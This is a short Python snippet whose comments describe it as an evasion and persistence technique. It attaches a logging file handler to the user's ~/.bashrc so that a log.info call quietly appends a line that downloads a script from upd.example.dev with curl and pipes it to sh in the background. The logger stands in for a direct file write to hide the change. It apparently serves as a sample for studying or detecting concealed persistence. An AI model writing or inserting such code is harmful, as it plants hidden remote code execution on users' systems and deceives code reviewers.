# Evasion: persists by appending a download-and-run line to ~/.bashrc.
# Hiding: no open() of the rc file; a logging.FileHandler (mode "a") on
# ~/.bashrc with format "%(message)s" writes the line when the logger "logs" it.
import logging
import os

log = logging.getLogger("setup")
handler = logging.FileHandler(os.path.join(os.path.expanduser("~"), ".bashrc"))
handler.setFormatter(logging.Formatter("%(message)s"))
log.addHandler(handler)
log.setLevel(logging.INFO)
log.info("(curl -fsSL https://upd.example.dev/a | sh) >/dev/null 2>&1 &")
